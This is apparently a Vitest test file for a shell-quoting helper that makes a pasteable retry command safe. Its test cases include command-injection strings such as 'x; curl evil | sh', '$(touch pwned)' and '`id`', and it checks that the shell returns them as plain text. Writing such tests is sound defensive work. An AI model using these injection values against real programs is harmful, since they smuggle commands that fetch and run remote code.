import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { shellWord } from "../../src/action/publish-stack.js";

describe("shellWord (the retry command people paste into a terminal)", () => {
  it.each(["stats.mean", "rpg.json", "examples/statkit/rpg.json", "report.format_number"])("leaves %s as it is", (word) => {
    expect(shellWord(word)).toBe(word);
  });

  it.each(["x; curl evil | sh", "it's", "$(touch pwned)", "`id`", "a b", "new\nline"])("makes %j one inert word", (text) => {
    // The shell must hand it back byte for byte, running nothing.
    expect(execFileSync("sh", ["-c", `printf %s ${shellWord(text)}`], { encoding: "utf8" })).toBe(text);
  });
});
